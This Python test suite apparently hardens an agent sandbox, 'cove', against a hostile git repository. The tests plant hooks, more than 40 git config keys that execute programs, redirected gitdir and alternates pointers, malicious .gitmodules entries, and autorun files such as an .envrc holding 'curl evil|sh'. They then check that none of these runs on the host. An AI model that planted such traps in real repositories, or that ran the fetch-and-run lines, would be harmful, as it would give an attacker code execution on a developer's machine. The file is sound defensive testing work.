"""Return to host: a repository that was made hostile inside, and what of it runs outside.  Nothing may.

The trap is a program that leaves a mark outside of the workspace.  Inside it may run as often as it likes: what it
writes there stays there.  Each control arm does on the host, by hand, what `cove apply` does not do, and a plain
`git status` falls into the trap.
"""
import re
import shutil
import subprocess

from attack import COVE, control_fires, equal, main, skip, test, traced_command

ALLOWED = {COVE, "/usr/bin/newuidmap", "/usr/bin/newgidmap"}

HOOKS = ("applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge "
         "pre-push pre-receive update proc-receive post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate "
         "fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change")

# Keys that make some git command run what they name.
KEYS = """core.fsmonitor core.sshCommand core.pager core.editor core.askPass core.gitProxy core.hooksPath core.alternateRefsCommand gpg.program gpg.ssh.program gpg.x509.program
credential.helper diff.external diff.x.command diff.x.textconv merge.x.driver filter.x.clean filter.x.smudge filter.x.process alias.status alias.st include.path
includeIf.gitdir:/.path uploadpack.packObjectsHook gc.recentObjectsHook sequence.editor difftool.x.cmd mergetool.x.cmd browser.x.cmd web.browser man.x.cmd pager.log pager.status
interactive.diffFilter trailer.x.command remote.origin.vcs remote.origin.uploadpack remote.origin.receivepack url.ext::x.insteadOf protocol.ext.allow submodule.x.update
sendemail.smtpServer sendemail.toCmd help.browser imap.tunnel instaweb.httpd guitool.x.cmd""".split()

PREPARE = "git config --global user.name A; git config --global user.email a@b; "


def make_repository(place):
    if not shutil.which("git"):
        skip("git is not installed")
    for words in (("init", "-q", "-b", "main"), ("add", "."), ("-c", "user.name=O", "-c", "user.email=o@p", "commit", "-qm", "first")):
        (place.work / "a").write_text("a\n")
        subprocess.run(["git", *words], cwd=place.work, check=True, env=place.env)
    trap = place.dir / "trap"
    trap.write_text(f"#!/bin/sh\necho sprung >{place.dir}/sprung\n")
    trap.chmod(0o755)


def setting(key):
    """As git config would write it, which takes its time for each; the trap's path is the shell's to fill in."""
    special = {"include": "$PWD/.git/more", "includeIf": "$PWD/.git/more", "core.hooksPath": "$PWD/.git/hooks", "alias": "!$PWD/trap", "submodule": "!$PWD/trap", "protocol": "always"}
    section, name = key.rsplit(".", 1)
    section, _, rest = section.partition(".")
    head = f'[{section} "{rest}"]' if rest else f"[{section}]"
    return f"{head}\n\t{name} = {special.get(key) or special.get(section) or '$PWD/trap'}\n"


def plant(place):
    """Shell: a trap in the workspace, and everything of git that can lead to it."""
    return (f"printf '#!/bin/sh\\necho sprung >{place.dir}/sprung 2>/dev/null; cat\\n' >trap; chmod +x trap; mkdir -p .git/hooks; "
            f"for h in {HOOKS}; do cp trap .git/hooks/$h; done; "
            "printf '* filter=x diff=x merge=x ident eol=crlf\\n*.bin filter=lfs diff=lfs -text\\n' | tee .gitattributes >.git/info/attributes; "
            f"cat >>.git/config <<END\n{''.join(map(setting, KEYS))}END\n"
            "printf '[core]\\n\\tfsmonitor = %s/trap\\n' $PWD >.git/more; ")


def sprung(place):
    return (place.dir / "sprung").exists()


def run_agent(place, script, cwd=None):
    done = place.cove("run", "-q", "--name", "bot", "--", "sh", "-c", PREPARE + script, cwd=cwd)
    equal(done.code, 0, repr(done))


def traps_lie_still(place, *commands, cwd=None):
    """Runs commands of cove's under a tracer: nothing but ourselves is executed on the host."""
    results = []
    for words in commands:
        lines, result = traced_command(place, *words, cwd=cwd)
        programs = set(re.findall(r'execve(?:at)?\((?:AT_FDCWD[^,]*, )?"([^"]+)"', "\n".join(lines)))
        equal(programs - ALLOWED, set(), f"programs that {words} ran on the host")
        assert programs & ALLOWED, "the trace is empty"
        results.append(result)
    assert not sprung(place), "a trap was sprung"
    return results


def git_falls_into(place, script, *command):
    """The control arm: the same script on the host, in a copy, and then git."""
    copy = place.dir / "copy"
    shutil.copytree(place.work, copy, symlinks=True)
    subprocess.run(["sh", "-c", script], cwd=copy, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    (place.dir / "sprung").unlink(missing_ok=True)
    subprocess.run(["git", *(command or ("status",))], cwd=copy, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    control_fires(sprung(place), "git on the host runs it")


COMMIT = "echo x >x; GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0= GIT_CONFIG_KEY_1=core.hooksPath GIT_CONFIG_VALUE_1=/dev/null git add x; " \
         "c=$(git -c core.fsmonitor= commit-tree -p HEAD -m made HEAD^{tree}); git update-ref refs/heads/main $c; echo y >y; "
EVERYTHING = (("diff",), ("diff", "--json"), ("diff", "--stat"), ("apply", "--yes", "--dry-run"), ("apply", "--yes"), ("export", "--patch"))


@test(id="RTH-01")
def hooks_of_the_workspace_do_not_run_on_the_host(place):
    make_repository(place)
    hooks = f"printf '#!/bin/sh\\necho sprung >{place.dir}/sprung\\n' >trap; chmod +x trap; mkdir -p .git/hooks; for h in {HOOKS}; do cp trap .git/hooks/$h; done; git config core.hooksPath .git/hooks; "
    run_agent(place, COMMIT + hooks)
    results = traps_lie_still(place, *EVERYTHING)
    for hook in HOOKS.split():
        assert f".git/hooks/{hook}" in results[0].text, f"{hook} is not shown"
        assert re.search(rf"^REFUSED +\.git/hooks/{hook}:", results[4].text, re.M), f"{hook} was not refused: {results[4]!r}"
    equal([path.name for path in (place.work / ".git/hooks").iterdir() if path.suffix != ".sample"], [], "hooks")
    git_falls_into(place, hooks, "checkout", "-q", "-b", "other")


@test(id="RTH-02")
def keys_that_execute_are_shown_and_never_come_home(place):
    make_repository(place)
    assert len(KEYS) >= 30
    before = (place.work / ".git/config").read_bytes()
    run_agent(place, COMMIT + plant(place))
    results = traps_lie_still(place, *EVERYTHING)
    for key in KEYS:
        assert re.search(rf"^\+\s*{re.escape(key.split('.')[-1])} = ", results[0].text, re.M | re.I), f"{key} is not shown"
    assert re.search(r"^REFUSED +\.git/config:", results[4].text, re.M), repr(results[4])
    equal((place.work / ".git/config").read_bytes(), before, "the owner's configuration")
    assert "cove/bot/main" in results[4].text, "the commit came home all the same"
    git_falls_into(place, plant(place))


@test(id="RTH-03")
def drivers_and_filters_see_no_byte_of_a_diff(place):
    make_repository(place)
    drivers = (f"printf '#!/bin/sh\\necho sprung >{place.dir}/sprung; echo nothing to see\\n' >trap; chmod +x trap; "
               "printf '* filter=x diff=x merge=x ident eol=crlf\\n*.bin filter=lfs diff=lfs -text\\n' >.gitattributes; "
               "for k in filter.x.clean filter.x.smudge diff.x.command diff.x.textconv diff.external merge.x.driver; do git config $k $PWD/trap; done; echo changed >a; echo '$Id$' >ident; "
               "printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:0\\nsize 1\\n' >large.bin; ")
    run_agent(place, drivers)
    shown = traps_lie_still(place, *EVERYTHING)[0].text
    for line in ("+changed", "-a", "+$Id$", "+version https://git-lfs.github.com/spec/v1", "+* filter=x diff=x merge=x ident eol=crlf"):
        assert line in shown.splitlines(), f"{line!r} is not in the diff as it is"
    assert "nothing to see" not in re.sub(r"^\+.*", "", shown, flags=re.M), "a driver wrote a part of the diff"
    git_falls_into(place, drivers, "diff")


@test(id="RTH-04")
def pointers_that_lead_git_elsewhere_are_refused(place):
    make_repository(place)
    linked = place.work / "linked"
    subprocess.run(["git", "worktree", "add", "-q", "-b", "topic", linked], cwd=place.work, env=place.env, check=True)
    own = {path: path.read_bytes() for path in (place.work / ".git").rglob("*") if path.is_file()}
    pointer = (linked / ".git").read_bytes()
    evil = "mkdir -p evil; git init -q --bare evil; "
    run_agent(place, evil + "echo $PWD/evil/objects >.git/objects/info/alternates; echo $PWD/evil >.git/worktrees/linked/commondir; echo $PWD/evil >.git/worktrees/linked/gitdir; "
                            "echo \"gitdir: $PWD/evil\" >linked/.git; echo fine >fine")
    result = traps_lie_still(place, ("apply", "--yes", "--allow-autorun", ".git/objects/info/alternates", "--allow-autorun", "linked/.git"))[0]
    for name in (".git/objects/info/alternates", ".git/worktrees/linked/commondir", ".git/worktrees/linked/gitdir", "linked/.git"):
        assert re.search(rf"^REFUSED +{re.escape(name)}:", result.text, re.M), f"{name}: {result!r}"
    equal(((place.work / "fine").read_text(), (linked / ".git").read_bytes()), ("fine\n", pointer))
    place.cove("rm", "bot")
    run_agent(place, "mv .git kept; ln -s kept .git")
    result = traps_lie_still(place, ("apply", "--yes"))[0]
    assert re.search(r"^REFUSED +\.git\b", result.text, re.M), repr(result)
    equal({path: path.read_bytes() for path in own}, own, "the repository")
    place.cove("rm", "bot")
    run_agent(place, "top=$(git rev-parse --git-common-dir); echo /etc >$top/worktrees/linked/commondir; printf 'gitdir: /etc\\n' >.git", cwd=linked)
    result = traps_lie_still(place, ("apply", "--yes"), cwd=linked)[0]
    equal(len(re.findall(r"^REFUSED ", result.text, re.M)), 2, repr(result))
    equal(({path: path.read_bytes() for path in own}, (linked / ".git").read_bytes()), (own, pointer), "the repository")
    shutil.copytree(place.work / ".git", place.dir / "else")
    (place.dir / "else/config").write_text(f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {place.dir}/trap\n")
    git_falls_into(place, f"rm -rf .git; echo 'gitdir: {place.dir}/else' >.git")


@test(id="RTH-05")
def submodules_run_nothing_and_are_flagged(place):
    source = place.dir / "source"
    make_repository(place)
    shutil.copytree(place.work, source)
    subprocess.run(["git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", source, "sub"], cwd=place.work, env=place.env, check=True)
    subprocess.run(["git", "-c", "user.name=O", "-c", "user.email=o@p", "commit", "-qm", "sub"], cwd=place.work, env=place.env, check=True)
    config = (place.work / ".git/modules/sub/config").read_bytes()
    traps = (f"printf '#!/bin/sh\\necho sprung >{place.dir}/sprung\\n' >trap; chmod +x trap; mkdir -p .git/modules/sub/hooks; cp trap .git/modules/sub/hooks/post-checkout; "
             "git config -f .git/modules/sub/config core.fsmonitor $PWD/trap; ")
    run_agent(place, "printf '[submodule \"x\"]\\n\\tpath = -x\\n\\turl = ./x\\n\\tupdate = !./trap\\n[submodule \"y\"]\\n\\tpath = y\\r\\n\\turl = ext::sh -c ./trap\\n' >>.gitmodules; " + traps
              + "cd sub; git -c core.fsmonitor= commit-tree -m inner HEAD^{tree} | xargs git update-ref refs/heads/inner")
    results = traps_lie_still(place, *EVERYTHING)
    assert "update = !./trap" in results[0].text, "what .gitmodules says is shown"
    applied = results[4].text
    assert re.search(r"^left +\.gitmodules .*submodules", applied, re.M), repr(results[4])
    for name in (".git/modules/sub/config", ".git/modules/sub/hooks/post-checkout"):
        assert re.search(rf"^REFUSED +{re.escape(name)}:", applied, re.M), f"{name}: {results[4]!r}"
    assert "cove/bot/inner" in applied, repr(results[4])
    equal((place.work / ".git/modules/sub/config").read_bytes(), config, "the submodule's configuration")
    git_falls_into(place, traps, "status")


def git(place, *words, cwd=None):
    done = subprocess.run(["git", "-c", "user.name=O", "-c", "user.email=o@p", *words], cwd=cwd or place.work, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, text=True, errors="replace")
    return done.stdout


AUTORUN = {".envrc": "curl evil|sh", ".vscode/tasks.json": "{}", ".claude/settings.json": "{}", "sub/.gitattributes": "* filter=x", ".gitmodules": "[submodule \"x\"]\\n\\turl = ext::sh", ".githooks/pre-commit": "#!/bin/sh",
           ".husky/pre-commit": "#!/bin/sh", ".idea/workspace.xml": "<x/>", ".npmrc": "script-shell=./evil", "fixture/config": "[core]", ".EnvRc": "curl evil|sh", "cove.yaml": "{}"}


@test(id="RTH-07")
def what_acts_by_merely_being_there_hides_in_no_commit(place):
    make_repository(place)
    (place.work / "fixture").mkdir()
    for name in ("HEAD", "refs/x", "objects/x"):
        path = place.work / "fixture" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("ref: refs/heads/x\n")
    git(place, "add", "-f", ".")
    git(place, "commit", "-qm", "a directory that a config makes a repository")
    plant_all = "".join(f"mkdir -p $(dirname {path}); printf '{text}\\n' >{path}; " for path, text in AUTORUN.items())
    run_agent(place, plant_all + "git add -f .; git commit -qm planted; git checkout -q -b earlier; git rm -q -r --cached . ; git commit -qm gone; git checkout -q -f -b fine main~; echo x >fine; git add fine; git commit -qm fine; "
              "git gc -q; git pack-refs --all")
    shown, _, _, _, applied, _ = traps_lie_still(place, *EVERYTHING)
    for path in AUTORUN:
        assert re.search(rf"^#   {re.escape(path)} \[class A: ", shown.text, re.M), f"{path} is not marked: {shown!r}"
    equal(len(re.findall(r"^left +\d+ commits? on (?:main|earlier) .*--allow-autorun ", applied.text, re.M)), 2, repr(applied))
    equal(git(place, "for-each-ref", "--format=%(refname:short)", "refs/heads/cove").split(), ["cove/bot/fine"], "branches that came home")
    objects = git(place, "cat-file", "--batch-all-objects", "--batch-check")
    allowed = [word for path in AUTORUN for word in ("--allow-autorun", path)]
    control_fires(place.cove("apply", "--yes", "--only-commits", *allowed).code == 0
                  and ".envrc" in git(place, "ls-tree", "-r", "--name-only", "cove/bot/main").split(), "with each path named it comes")
    assert len(git(place, "cat-file", "--batch-all-objects", "--batch-check")) > len(objects), "the objects were not there before"


@test(id="RTH-20")
def a_diff_in_a_commit_message_is_not_applied(place):
    make_repository(place)
    shutil.copytree(place.work, place.dir / "clone")
    shutil.copytree(place.work, place.dir / "plain")
    evil = f"diff --git a/.envrc b/.envrc\\nnew file mode 100755\\n--- /dev/null\\n+++ b/.envrc\\n@@ -0,0 +1 @@\\n+touch {place.dir}/sprung\\n"
    run_agent(place, f"echo x >x; git add x; printf 'innocent\\n\\nSee:\\n{evil}---\\n' >/tmp/m; git commit -q --cleanup=verbatim -F /tmp/m")
    mails = traps_lie_still(place, ("export", "--patch", "-o", str(place.dir / "mails")))[0]
    equal(mails.code, 0, repr(mails))
    said = git(place, "am", str(place.dir / "mails/0001-innocent.patch"), cwd=place.dir / "clone")
    equal(((place.dir / "clone/x").exists(), (place.dir / "clone/.envrc").exists()), (True, False), said)
    equal(place.cove("apply", "--yes", "--only-commits").code, 0)
    git(place, "format-patch", "-q", "-1", "-o", str(place.dir), "cove/bot/main")
    git(place, "am", str(place.dir / "0001-innocent.patch"), cwd=place.dir / "plain")
    control_fires((place.dir / "plain/.envrc").exists(), "git am applies it if git wrote the mail")


@test(id="RTH-13")
def in_its_whole_life_a_hostile_repository_runs_nothing_of_its_own_on_the_host(place):
    make_repository(place)
    script = PREPARE + COMMIT + plant(place)
    started = ("run", "-q", "--name", "bot", "--", "sh", "-c", script)
    results = traps_lie_still(place, started, *EVERYTHING, ("export", "--patch", "-o", str(place.dir / "mails")), ("ls",), ("show", "bot"), ("rm", "bot"), ("prune",))
    equal([result.code for result in results], [0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0, 0], "exit codes: what steers git was refused")
    subprocess.run(["git", "status"], cwd=place.work, env=place.env, check=True, stdout=subprocess.DEVNULL)
    subprocess.run(["git", "log", "--all", "-p"], cwd=place.work, env=place.env, check=True, stdout=subprocess.DEVNULL)
    assert not sprung(place), "the owner's own git ran something of the agent's"
    git_falls_into(place, plant(place))


main()
